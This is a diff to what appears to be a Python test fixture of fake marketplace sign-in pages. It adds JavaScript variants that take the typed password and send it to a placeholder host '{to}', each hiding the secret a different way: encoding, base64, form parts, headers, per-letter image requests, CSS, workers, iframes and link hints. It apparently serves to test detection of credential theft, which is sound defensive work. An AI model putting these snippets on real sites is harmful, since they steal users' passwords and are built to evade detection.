@@ -23,6 +23,12 @@ FORM = """<form id="signin-form" method="post" action="{action}">
 <button id="sgnBt" class="login-btn">Sign in</button></form><script>const form = document.forms[0]</script>"""
 """Both marketplaces' fields in one page."""
 AWAY = FORM.replace("{action}", "{to}")
+SENDING = (
+    FORM + "<script>const send = (method, query, body) =>"
+    " fetch('{to}' + query, {{method, body, mode: 'no-cors'}});"
+    " sgnBt.onclick = e => {{ e.preventDefault(); const secret = pass.value; "
+)
+"""The page's script has the secret in hand; what it does with it follows, up to the end of the script."""
 
 TRAPS = {
     # the page is not where it should be
@@ -45,11 +51,40 @@ TRAPS = {
     + "<script>form.onsubmit = () => {{ form.target = '_blank'; form.action = '{to}' }}</script>",
     "beacon": FORM + "<script>sgnBt.onclick = e => {{ e.preventDefault();"
     " navigator.sendBeacon('{to}', pass.value); new Image().src = '{to}?p=' + encodeURIComponent(pass.value);"
-    " fetch('{to}', {{method: 'POST', mode: 'no-cors', body: btoa(pass.value)}}) }}</script>",
+    " fetch('{to}', {{method: 'POST', mode: 'no-cors',"
+    " body: btoa(unescape(encodeURIComponent(pass.value)))}}) }}</script>",
     "blob": FORM + "<script>sgnBt.onclick = e => {{ e.preventDefault();"
     " navigator.sendBeacon('{to}', new Blob([pass.value])); fetch('{to}', {{method: 'POST', mode: 'no-cors',"
     " body: new Blob([pass.value])}}); fetch('{to}', {{method: 'POST', mode: 'no-cors',"
     " body: pass.value + ' '.repeat(300000)}}) }}</script>",
+    # the same in the browser's own writings of it, to whatever host the test names
+    "quoted": SENDING + "send('GET', '?p=' + encodeURIComponent(secret)) }}</script>",
+    "quoted-twice": SENDING
+    + "send('GET', '?p=' + encodeURIComponent(encodeURIComponent(secret))) }}</script>",
+    "escaped": SENDING + "send('GET', '?p=' + escape(secret)) }}</script>",
+    "as-form": SENDING + "send('POST', '', new URLSearchParams({{p: secret}})) }}</script>",
+    "as-parts": SENDING + "const parts = new FormData(); parts.append('p', secret);"
+    " send('POST', '', parts) }}</script>",
+    "as-json": SENDING + "send('POST', '', JSON.stringify({{p: secret}}).replace(/[^ -~]/g,"
+    " c => '\\\\u' + c.charCodeAt(0).toString(16).padStart(4, '0'))) }}</script>",
+    "as-base64": SENDING
+    + "const b64 = btoa(unescape(encodeURIComponent('{{\"p\":' + JSON.stringify(secret) + '}}')));"
+    " send('GET', '?d=' + b64.replace(/[+]/g, '-').replace(/[/]/g, '_').replace(/=+$/, '')) }}</script>",
+    "in-a-name": SENDING + "const parts = new FormData(); parts.append('p', new Blob(['x']), secret);"
+    " send('POST', '', parts) }}</script>",
+    "in-a-header": SENDING + "fetch('{to}', {{headers: {{'X-P': encodeURIComponent(secret)}}}}) }}</script>",
+    # what needs the foreign host to be out of reach, since no comparison would find it
+    "letters": FORM + "<script>sgnBt.onclick = e => {{ e.preventDefault(); [...pass.value].forEach((c, i) =>"
+    " {{ new Image().src = '{to}?' + i + '=' + c.codePointAt(0) }}) }}</script>",
+    "turned-round": SENDING + "send('GET', '?p=' + [...secret].reverse().join('.')) }}</script>",
+    "by-css": SENDING + "document.body.style.backgroundImage = `url({to}?n=${{secret.length}})` }}</script>",
+    "by-worker": SENDING + "new Worker(URL.createObjectURL(new Blob(["
+    "`fetch('{to}?n=${{secret.length}}', {{mode: 'no-cors'}})`]))) }}</script>",
+    "by-frame": SENDING + "const inner = document.createElement('iframe');"
+    " inner.srcdoc = `<img src='{to}?n=${{secret.length}}'>`; document.body.append(inner) }}</script>",
+    "by-hint": SENDING + "for (const rel of ['preload', 'prefetch', 'icon', 'stylesheet', 'modulepreload',"
+    " 'manifest']) {{ const link = document.createElement('link'); Object.assign(link, {{rel, as: 'script',"
+    " href: '{to}?' + rel}}); document.head.append(link) }} }}</script>",
     # the server sends the form on, with all that is in it
     "sent-on": FORM,
     "sent-on-in-pop-up": FORM.replace("<form", "<form target=_blank"),
